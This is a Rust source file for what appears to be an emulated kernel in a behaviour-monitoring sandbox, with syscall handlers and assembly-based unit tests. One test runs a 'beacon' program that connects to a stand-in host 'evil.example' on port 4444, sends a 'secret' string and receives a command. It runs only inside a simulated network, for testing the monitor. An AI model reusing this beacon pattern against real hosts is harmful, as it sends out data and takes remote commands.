                queue.extend(bytes.iter().copied());
                bytes.len()
            }
            FdKind::Socket(id) => match self.net.send(id, &bytes) {
                Ok(n) => n,
                Err(_) => return (-errno::EINVAL, SyscallEffect::None),
            },
        };
        (written as i32, SyscallEffect::Write { resource, buf, len: written as u32 })
    }

    pub(crate) fn sys_socketcall(
        &mut self,
        proc: &mut Process,
        call: u32,
        args_ptr: u32,
    ) -> (&'static str, i32, SyscallEffect) {
        let arg = |core: &Core, i: u32| core.mem.read_u32(args_ptr + 4 * i);
        match call {
            sockcall::SOCKET => {
                let id = self.net.socket();
                let fd = proc.fds.alloc(FdKind::Socket(id));
                ("SYS_socket", fd, SyscallEffect::SocketCreated { fd })
            }
            sockcall::BIND => {
                let (Ok(fd), Ok(addr_ptr)) = (arg(&proc.core, 0), arg(&proc.core, 1)) else {
                    return ("SYS_bind", -errno::EFAULT, SyscallEffect::None);
                };
                let Some(&FdKind::Socket(id)) = proc.fds.get(fd as i32) else {
                    return ("SYS_bind", -errno::EBADF, SyscallEffect::None);
                };
                let Some(mut ep) = read_sockaddr(&proc.core, addr_ptr) else {
                    return ("SYS_bind", -errno::EFAULT, SyscallEffect::None);
                };
                if ep.ip == 0 {
                    ep.ip = self.net.local_ip();
                }
                match self.net.bind(id, ep) {
                    Ok(()) => {
                        let resource = self.resource_of(&FdKind::Socket(id));
                        ("SYS_bind", 0, SyscallEffect::Bind { resource, addr_ptr, endpoint: ep })
                    }
                    Err(_) => ("SYS_bind", -errno::EINVAL, SyscallEffect::None),
                }
            }
            sockcall::CONNECT => {
                let (Ok(fd), Ok(addr_ptr)) = (arg(&proc.core, 0), arg(&proc.core, 1)) else {
                    return ("SYS_connect", -errno::EFAULT, SyscallEffect::None);
                };
                let Some(&FdKind::Socket(id)) = proc.fds.get(fd as i32) else {
                    return ("SYS_connect", -errno::EBADF, SyscallEffect::None);
                };
                let Some(ep) = read_sockaddr(&proc.core, addr_ptr) else {
                    return ("SYS_connect", -errno::EFAULT, SyscallEffect::None);
                };
                match self.net.connect(id, ep) {
                    Ok(_local) => {
                        let resource = self.resource_of(&FdKind::Socket(id));
                        (
                            "SYS_connect",
                            0,
                            SyscallEffect::Connect { resource, addr_ptr, endpoint: ep },
                        )
                    }
                    Err(NetError::Refused) => {
                        // The connection attempt is still an observable
                        // (and suspicious) act; report the endpoint.
                        let resource = self.resource_of(&FdKind::Socket(id));
                        (
                            "SYS_connect",
                            -errno::ECONNREFUSED,
                            SyscallEffect::Connect { resource, addr_ptr, endpoint: ep },
                        )
                    }
                    Err(_) => ("SYS_connect", -errno::EINVAL, SyscallEffect::None),
                }
            }
            sockcall::LISTEN => {
                let Ok(fd) = arg(&proc.core, 0) else {
                    return ("SYS_listen", -errno::EFAULT, SyscallEffect::None);
                };
                let Some(&FdKind::Socket(id)) = proc.fds.get(fd as i32) else {
                    return ("SYS_listen", -errno::EBADF, SyscallEffect::None);
                };
                match self.net.listen(id) {
                    Ok(_) => {
                        let resource = self.resource_of(&FdKind::Socket(id));
                        ("SYS_listen", 0, SyscallEffect::Listen { resource })
                    }
                    Err(_) => ("SYS_listen", -errno::EINVAL, SyscallEffect::None),
                }
            }
            sockcall::ACCEPT => {
                let (Ok(fd), Ok(addr_out)) = (arg(&proc.core, 0), arg(&proc.core, 1)) else {
                    return ("SYS_accept", -errno::EFAULT, SyscallEffect::None);
                };
                let Some(&FdKind::Socket(id)) = proc.fds.get(fd as i32) else {
                    return ("SYS_accept", -errno::EBADF, SyscallEffect::None);
                };
                match self.net.accept(id) {
                    Ok((conn, remote)) => {
                        if addr_out != 0 {
                            let _ = write_sockaddr(&mut proc.core, addr_out, remote);
                        }
                        let new_fd = proc.fds.alloc(FdKind::Socket(conn));
                        let resource = self.resource_of(&FdKind::Socket(conn));
                        ("SYS_accept", new_fd, SyscallEffect::Accept { fd: new_fd, resource })
                    }
                    Err(NetError::WouldBlock) => {
                        ("SYS_accept", -errno::EAGAIN, SyscallEffect::None)
                    }
                    Err(_) => ("SYS_accept", -errno::EINVAL, SyscallEffect::None),
                }
            }
            sockcall::SEND => {
                let (Ok(fd), Ok(buf), Ok(len)) =
                    (arg(&proc.core, 0), arg(&proc.core, 1), arg(&proc.core, 2))
                else {
                    return ("SYS_send", -errno::EFAULT, SyscallEffect::None);
                };
                let (ret, effect) = self.sys_write(proc, fd as i32, buf, len);
                ("SYS_send", ret, effect)
            }
            sockcall::RECV => {
                let (Ok(fd), Ok(buf), Ok(len)) =
                    (arg(&proc.core, 0), arg(&proc.core, 1), arg(&proc.core, 2))
                else {
                    return ("SYS_recv", -errno::EFAULT, SyscallEffect::None);
                };
                let (ret, effect) = self.sys_read(proc, fd as i32, buf, len);
                ("SYS_recv", ret, effect)
            }
            _ => ("SYS_socketcall", -errno::EINVAL, SyscallEffect::None),
        }
    }
}

/// Reads the simplified 8-byte sockaddr `{u16 family, u16 port, u32 ip}`
/// (all little-endian; family 2 = AF_INET).
fn read_sockaddr(core: &Core, addr: u32) -> Option<Endpoint> {
    let family = core.mem.read_u32(addr).ok()? & 0xffff;
    if family != 2 {
        return None;
    }
    let word = core.mem.read_u32(addr).ok()?;
    let port = (word >> 16) as u16;
    let ip = core.mem.read_u32(addr + 4).ok()?;
    Some(Endpoint { ip, port })
}

/// Writes the simplified sockaddr.
fn write_sockaddr(core: &mut Core, addr: u32, ep: Endpoint) -> Result<(), hth_vm::MemFault> {
    core.mem.write_u32(addr, 2 | (u32::from(ep.port) << 16))?;
    core.mem.write_u32(addr + 4, ep.ip)
}

/// Builds the initial stack: `argc`, `argv[]`, `envp[]` and their
/// strings. Returns the `[esp, top)` range holding this user-controlled
/// content — the monitor tags it `USER_INPUT` (paper §7.3.3).
pub fn build_initial_stack(core: &mut Core, argv: &[&str], env: &[(&str, &str)]) -> (u32, u32) {
    let top = STACK_TOP - 16;
    let mut cursor = top;
    let mut write_str = |core: &mut Core, s: &str| -> u32 {
        cursor -= s.len() as u32 + 1;
        core.mem.write_bytes(cursor, s.as_bytes()).expect("stack mapped");
        core.mem.write_u8(cursor + s.len() as u32, 0).expect("stack mapped");
        cursor
    };
    let arg_ptrs: Vec<u32> = argv.iter().map(|a| write_str(core, a)).collect();
    let env_ptrs: Vec<u32> =
        env.iter().map(|(k, v)| write_str(core, &format!("{k}={v}"))).collect();
    let mut sp = cursor & !3;
    let mut push = |core: &mut Core, v: u32| {
        sp -= 4;
        core.mem.write_u32(sp, v).expect("stack mapped");
    };
    push(core, 0);
    for &p in env_ptrs.iter().rev() {
        push(core, p);
    }
    push(core, 0);
    for &p in arg_ptrs.iter().rev() {
        push(core, p);
    }
    push(core, argv.len() as u32);
    core.cpu.set(Reg::Esp, sp);
    (sp, top)
}

#[cfg(test)]
mod tests {
    use super::*;
    use hth_vm::{NullHooks, StepEvent};

    /// Runs a registered binary to completion without any monitor,
    /// servicing syscalls; returns the records and the kernel.
    fn run(kernel: &mut Kernel, path: &str, argv: &[&str]) -> (Vec<SyscallRecord>, Process) {
        let mut proc = kernel.spawn(path, argv, &[]).unwrap();
        let mut records = Vec::new();
        for _ in 0..200_000 {
            if !proc.runnable() {
                break;
            }
            match proc.core.step(&mut NullHooks).unwrap() {
                StepEvent::Continue => {}
                StepEvent::Halted => break,
                StepEvent::Interrupt(0x80) => {
                    let rec = kernel.syscall(&mut proc);
                    records.push(rec);
                }
                StepEvent::Interrupt(_) => break,
            }
        }
        (records, proc)
    }

    #[test]
    fn spawn_builds_runnable_process_with_argv() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/echoargs",
            r"
            _start:
                mov eax, [esp]      ; argc
                hlt
            ",
            &[],
        );
        let mut proc = kernel.spawn("/bin/echoargs", &["/bin/echoargs", "a", "bb"], &[]).unwrap();
        while proc.core.step(&mut NullHooks).unwrap() == StepEvent::Continue {}
        assert_eq!(proc.core.cpu.get(Reg::Eax), 3);
        let (lo, hi) = proc.initial_stack;
        assert!(lo < hi && hi <= STACK_TOP);
    }

    #[test]
    fn open_write_read_close_cycle() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/filer",
            r#"
            .equ SYS_read, 3
            .equ SYS_write, 4
            .equ SYS_open, 5
            .equ SYS_close, 6
            .equ SYS_exit, 1
            .equ O_CREAT, 0x40
            _start:
                mov eax, SYS_open
                mov ebx, path
                mov ecx, O_CREAT
                int 0x80
                mov esi, eax        ; fd
                mov eax, SYS_write
                mov ebx, esi
                mov ecx, msg
                mov edx, 5
                int 0x80
                mov eax, SYS_close
                mov ebx, esi
                int 0x80
                mov eax, SYS_exit
                mov ebx, 0
                int 0x80
            .data
            path: .asciz "/tmp/out"
            msg:  .asciz "hello"
            "#,
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/filer", &["/bin/filer"]);
        assert_eq!(proc.state, ProcState::Exited(0));
        assert_eq!(kernel.vfs.get("/tmp/out").unwrap().data(), b"hello");
        assert!(matches!(records[0].effect, SyscallEffect::Open { fd: 3, .. }));
        assert!(matches!(
            &records[1].effect,
            SyscallEffect::Write { resource: Resource::File { path, .. }, len: 5, .. }
            if path == "/tmp/out"
        ));
        assert!(matches!(records[2].effect, SyscallEffect::Close { .. }));
    }

    #[test]
    fn predefined_abi_consts_need_no_equ() {
        // The generated ABI constants are pre-seeded into every
        // assembly: the same program as above, without a single .equ.
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/filer2",
            r#"
            _start:
                mov eax, SYS_open
                mov ebx, path
                mov ecx, O_CREAT
                int 0x80
                mov esi, eax
                mov eax, SYS_write
                mov ebx, esi
                mov ecx, msg
                mov edx, 5
                int 0x80
                mov eax, SYS_exit
                mov ebx, 0
                int 0x80
            .data
            path: .asciz "/tmp/out2"
            msg:  .asciz "hello"
            "#,
            &[],
        );
        let (_, proc) = run(&mut kernel, "/bin/filer2", &["/bin/filer2"]);
        assert_eq!(proc.state, ProcState::Exited(0));
        assert_eq!(kernel.vfs.get("/tmp/out2").unwrap().data(), b"hello");
    }

    #[test]
    fn stdin_is_scripted_user_input() {
        let mut kernel = Kernel::new();
        kernel.push_stdin(b"secret".to_vec());
        kernel.register_binary(
            "/bin/reader",
            r"
            _start:
                mov eax, 3          ; read
                mov ebx, 0          ; stdin
                mov ecx, 0x09000000 ; scratch
                mov edx, 64
                int 0x80
                hlt
            ",
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/reader", &["r"]);
        assert_eq!(records[0].ret, 6);
        assert!(matches!(records[0].effect, SyscallEffect::Read { resource: Resource::Stdin, .. }));
        assert_eq!(proc.core.mem.read_bytes(0x0900_0000, 6).unwrap(), b"secret");
    }

    #[test]
    fn execve_reports_a_missing_binary() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/launcher",
            r#"
            _start:
                mov eax, 11
                mov ebx, prog
                int 0x80
                hlt
            .data
            prog: .asciz "/bin/ls"
            "#,
            &[],
        );
        let (records, _) = run(&mut kernel, "/bin/launcher", &["l"]);
        assert_eq!(records[0].name, "SYS_execve");
        assert!(matches!(
            &records[0].effect,
            SyscallEffect::ExecRequested { path, found: false, .. } if path == "/bin/ls"
        ));
        assert_eq!(records[0].ret, -errno::ENOENT);
    }

    #[test]
    fn fork_clones_and_resumes_child() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/forker",
            r"
            _start:
                mov eax, 2          ; fork
                int 0x80
                hlt
            ",
            &[],
        );
        let mut parent = kernel.spawn("/bin/forker", &["f"], &[]).unwrap();
        // Step to the interrupt.
        while parent.core.step(&mut NullHooks).unwrap() == StepEvent::Continue {}
        let rec = kernel.syscall(&mut parent);
        assert!(matches!(rec.effect, SyscallEffect::ForkRequested));
        let child = kernel.fork(&parent);
        parent.core.cpu.set(Reg::Eax, child.pid);
        assert_eq!(child.core.cpu.get(Reg::Eax), 0);
        assert_eq!(child.parent, parent.pid);
        assert_ne!(child.pid, parent.pid);
        assert_eq!(kernel.fork_ticks.len(), 1);
    }

    #[test]
    fn spawn_materialises_written_pages_only_and_fork_copies_them() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/forker",
            r#"
            .equ SCRATCH, 0x09000000
            _start:
                mov eax, 2          ; fork
                int 0x80
                cmp eax, 0
                je child
                mov [SCRATCH], 1
                hlt
            child:
                mov [SCRATCH], 2
                mov [SCRATCH+0x10000], 2
                hlt
            .data
            msg: .asciz "hi"
            "#,
            &[],
        );
        let mut parent = kernel.spawn("/bin/forker", &["f"], &[]).unwrap();
        // Stack and scratch are mapped in full, but only the data section
        // and the argv block at the top of the stack have been written.
        let mapped = (STACK_TOP - STACK_BASE + SCRATCH_SIZE) / hth_vm::PAGE_SIZE;
        assert_eq!(mapped, 576);
        assert!(parent.core.mem.is_mapped(STACK_BASE));
        assert!(parent.core.mem.is_mapped(SCRATCH_BASE + SCRATCH_SIZE - 1));
        assert_eq!(parent.core.mem.resident_pages(), 2);
        while parent.core.step(&mut NullHooks).unwrap() == StepEvent::Continue {}
        kernel.syscall(&mut parent);
        let mut child = kernel.fork(&parent);
        parent.core.cpu.set(Reg::Eax, child.pid);
        for proc in [&mut parent, &mut child] {
            while proc.core.step(&mut NullHooks).unwrap() == StepEvent::Continue {}
        }
        // Each side sees only its own writes.
        assert_eq!(parent.core.mem.read_u32(SCRATCH_BASE), Ok(1));
        assert_eq!(child.core.mem.read_u32(SCRATCH_BASE), Ok(2));
        assert_eq!(parent.core.mem.read_u32(SCRATCH_BASE + 0x10000), Ok(0));
        assert_eq!(child.core.mem.read_u32(SCRATCH_BASE + 0x10000), Ok(2));
        assert_eq!(parent.core.mem.resident_pages(), 3);
        assert_eq!(child.core.mem.resident_pages(), 4);
    }

    #[test]
    fn socket_client_round_trip() {
        use crate::net::Peer;
        let mut kernel = Kernel::new();
        kernel.net.add_host("evil.example", 0x0808_0808);
        kernel.net.add_peer(
            Endpoint { ip: 0x0808_0808, port: 4444 },
            Peer { replies: [b"cmd".to_vec()].into(), ..Peer::default() },
        );
        kernel.register_binary(
            "/bin/beacon",
            r#"
            .equ SCRATCH, 0x09000000
            _start:
                ; socket()
                mov eax, 102
                mov ebx, 1
                mov ecx, sockargs
                int 0x80
                mov esi, eax                ; fd
                ; connect(fd, &addr, 8)
                mov [connargs], esi
                mov eax, 102
                mov ebx, 3
                mov ecx, connargs
                int 0x80
                ; send(fd, secret, 6, 0)
                mov [sendargs], esi
                mov eax, 102
                mov ebx, 9
                mov ecx, sendargs
                int 0x80
                ; recv(fd, SCRATCH, 16, 0)
                mov [recvargs], esi
                mov eax, 102
                mov ebx, 10
                mov ecx, recvargs
                int 0x80
                hlt
            .data
            sockargs: .long 2, 1, 0
            addr:     .word 2
            port:     .word 4444
            ip:       .long 0x08080808
            connargs: .long 0, addr, 8
            secret:   .asciz "secret"
            sendargs: .long 0, secret, 6, 0
            recvargs: .long 0, 0x09000000, 16, 0
            "#,
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/beacon", &["b"]);
        assert!(matches!(records[0].effect, SyscallEffect::SocketCreated { fd: 3 }));
        assert!(matches!(
            records[1].effect,
            SyscallEffect::Connect { endpoint: Endpoint { ip: 0x0808_0808, port: 4444 }, .. }
        ));
        assert!(matches!(records[2].effect, SyscallEffect::Write { len: 6, .. }));
        assert!(matches!(records[3].effect, SyscallEffect::Read { len: 3, .. }));
        assert_eq!(
            kernel.net.peer_received(Endpoint { ip: 0x0808_0808, port: 4444 }),
            &[b"secret".to_vec()]
        );
        assert_eq!(proc.core.mem.read_bytes(0x0900_0000, 3).unwrap(), b"cmd");
    }

    #[test]
    fn resolve_syscall_resolves_dns() {
        let mut kernel = Kernel::new();
        kernel.net.add_host("pop.mail.yahoo.com", 0x0101_0101);
        kernel.register_binary(
            "/bin/dns",
            r#"
            _start:
                mov eax, 200
                mov ebx, host
                int 0x80
                hlt
            .data
            host: .asciz "pop.mail.yahoo.com"
            "#,
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/dns", &["d"]);
        assert!(matches!(
            &records[0].effect,
            SyscallEffect::Resolve { name, ok: true, .. } if name == "pop.mail.yahoo.com"
        ));
        assert_eq!(proc.core.cpu.get(Reg::Eax), 0x0101_0101);
    }

    #[test]
    fn nanosleep_advances_clock() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/sleepy",
            "_start:\n mov eax, 162\n mov ebx, 500\n int 0x80\n hlt\n",
            &[],
        );
        assert_eq!(kernel.now(), 0);
        let (records, _) = run(&mut kernel, "/bin/sleepy", &["s"]);
        assert!(matches!(records[0].effect, SyscallEffect::Sleep { ticks: 500 }));
        assert_eq!(kernel.now(), 500);
    }

    #[test]
    fn instruction_accounting_ticks() {
        let mut kernel = Kernel::new();
        kernel.set_instr_per_tick(10);
        kernel.note_instructions(25);
        assert_eq!(kernel.now(), 2);
        kernel.note_instructions(5);
        assert_eq!(kernel.now(), 3);
    }

    #[test]
    fn mknod_creates_fifo_and_io_works() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/piper",
            r#"
            _start:
                mov eax, 14          ; mknod
                mov ebx, pipe_name
                mov ecx, 0x1000
                int 0x80
                mov eax, 5           ; open
                mov ebx, pipe_name
                mov ecx, 0x1
                int 0x80
                mov esi, eax
                mov eax, 4           ; write
                mov ebx, esi
                mov ecx, data
                mov edx, 3
                int 0x80
                hlt
            .data
            pipe_name: .asciz "inpipe1"
            data: .asciz "ok!"
            "#,
            &[],
        );
        let (records, _) = run(&mut kernel, "/bin/piper", &["p"]);
        assert!(
            matches!(&records[0].effect, SyscallEffect::Mknod { path, .. } if path == "inpipe1")
        );
        assert!(matches!(
            &records[2].effect,
            SyscallEffect::Write { resource: Resource::File { fifo: true, .. }, .. }
        ));
        assert_eq!(kernel.vfs.read("inpipe1", 0, 10).unwrap(), b"ok!");
    }

    #[test]
    fn pipe_write_read_round_trip_and_dup2() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/plumber",
            r#"
            _start:
                mov eax, SYS_pipe
                mov ebx, fdbuf
                int 0x80
                ; write("abc") into the write end
                mov eax, SYS_write
                mov ebx, [wrfd]
                mov ecx, data
                mov edx, 3
                int 0x80
                ; dup2(read end, 10)
                mov eax, SYS_dup2
                mov ebx, [rdfd]
                mov ecx, 10
                int 0x80
                ; read from fd 10
                mov eax, SYS_read
                mov ebx, 10
                mov ecx, 0x09000000
                mov edx, 16
                int 0x80
                hlt
            .data
            fdbuf:
            rdfd: .long 0
            wrfd: .long 0
            data: .asciz "abc"
            "#,
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/plumber", &["p"]);
        assert!(matches!(
            records[0].effect,
            SyscallEffect::PipeCreated { read_fd: 3, write_fd: 4, .. }
        ));
        assert!(matches!(
            records[1].effect,
            SyscallEffect::Write { resource: Resource::Pipe { .. }, len: 3, .. }
        ));
        assert!(matches!(records[2].effect, SyscallEffect::Dup { old: 3, new: 10, .. }));
        assert_eq!(records[3].ret, 3);
        assert!(matches!(
            records[3].effect,
            SyscallEffect::Read { resource: Resource::Pipe { .. }, len: 3, .. }
        ));
        assert_eq!(proc.core.mem.read_bytes(0x0900_0000, 3).unwrap(), b"abc");
    }

    #[test]
    fn mmap_maps_file_bytes_and_munmap_validates() {
        let mut kernel = Kernel::new();
        kernel.vfs.install("/data/blob", crate::vfs::FileNode::regular(b"mapped-bytes".as_slice()));
        kernel.register_binary(
            "/bin/mapper",
            r#"
            _start:
                mov eax, SYS_open
                mov ebx, path
                mov ecx, O_RDONLY
                int 0x80
                mov esi, eax
                mov eax, SYS_mmap
                mov ebx, esi
                mov ecx, 12
                mov edx, 0
                int 0x80
                mov edi, eax        ; mapping address
                mov eax, SYS_munmap
                mov ebx, edi
                mov ecx, 12
                int 0x80
                hlt
            .data
            path: .asciz "/data/blob"
            "#,
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/mapper", &["m"]);
        let SyscallEffect::Mmap { addr, len: 12, .. } = records[1].effect else {
            panic!("expected Mmap effect, got {:?}", records[1].effect);
        };
        assert_eq!(addr, MMAP_BASE);
        assert_eq!(proc.core.mem.read_bytes(addr, 12).unwrap(), b"mapped-bytes");
        assert!(matches!(records[2].effect, SyscallEffect::Munmap { len: 12, .. }));
    }

    #[test]
    fn proc_self_status_is_synthesized_read_only() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/introspect",
            r#"
            _start:
                mov eax, SYS_open
                mov ebx, path
                mov ecx, O_RDONLY
                int 0x80
                mov esi, eax
                mov eax, SYS_read
                mov ebx, esi
                mov ecx, 0x09000000
                mov edx, 128
                int 0x80
                ; writing to a /proc fd must fail
                mov eax, SYS_write
                mov ebx, esi
                mov ecx, path
                mov edx, 4
                int 0x80
                hlt
            .data
            path: .asciz "/proc/self/status"
            "#,
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/introspect", &["me"]);
        assert!(matches!(
            &records[0].effect,
            SyscallEffect::Open { resource: Resource::Proc { path }, .. }
            if path == "/proc/self/status"
        ));
        let n = records[1].ret;
        assert!(n > 0);
        let text =
            String::from_utf8(proc.core.mem.read_bytes(0x0900_0000, n as u32).unwrap()).unwrap();
        assert!(text.contains("Name:\tintrospect"), "got {text:?}");
        assert!(text.contains("Pid:\t1"));
        assert_eq!(records[2].ret, -errno::EBADF, "proc views are read-only");
    }

    #[test]
    fn select_reports_readable_fds_and_burns_timeout() {
        let mut kernel = Kernel::new();
        kernel.push_stdin(b"x".to_vec());
        kernel.register_binary(
            "/bin/selector",
            r#"
            _start:
                ; select over {stdin} -> ready
                mov eax, SYS_select
                mov ebx, 1
                mov ecx, fdset
                mov edx, 0
                int 0x80
                mov esi, eax
                ; drain stdin, then select again with a timeout
                mov eax, SYS_read
                mov ebx, 0
                mov ecx, 0x09000000
                mov edx, 8
                int 0x80
                mov eax, SYS_select
                mov ebx, 1
                mov ecx, fdset2
                mov edx, 40
                int 0x80
                hlt
            .data
            fdset:  .long 1
            fdset2: .long 1
            "#,
            &[],
        );
        let before = kernel.now();
        let (records, _) = run(&mut kernel, "/bin/selector", &["s"]);
        assert_eq!(records[0].ret, 1, "stdin readable");
        assert_eq!(records[2].ret, 0, "drained stdin not readable");
        assert!(kernel.now() >= before + 40, "fruitless select burns its timeout");
    }

    #[test]
    fn kill_and_sigaction_report_effects() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/killer",
            r"
            _start:
                mov eax, SYS_sigaction
                mov ebx, SIGTERM
                mov ecx, handler
                int 0x80
                mov eax, SYS_kill
                mov ebx, 7
                mov ecx, SIGKILL
                int 0x80
                hlt
            handler:
                ret
            ",
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/killer", &["k"]);
        assert_eq!(records[0].ret, 0);
        assert!(proc.sig_handlers.contains_key(&15));
        assert!(matches!(records[1].effect, SyscallEffect::SignalRequested { target: 7, sig: 9 }));
    }

    #[test]
    fn brk_total_past_cap_does_not_wrap() {
        let mut kernel = Kernel::new();
        let mut proc = {
            kernel.register_binary("/bin/hog", "_start:\n hlt\n", &[]);
            kernel.spawn("/bin/hog", &["h"], &[]).unwrap()
        };
        // Grow far past MAX_HEAP repeatedly: totals keep accumulating
        // but mapping stops, and the u32 base arithmetic never wraps.
        for _ in 0..4096 {
            let (_, effect) = kernel.sys_brk(&mut proc, u32::MAX);
            assert!(matches!(effect, SyscallEffect::Brk { .. }));
        }
        assert!(proc.heap_bytes > MAX_HEAP);
    }
}
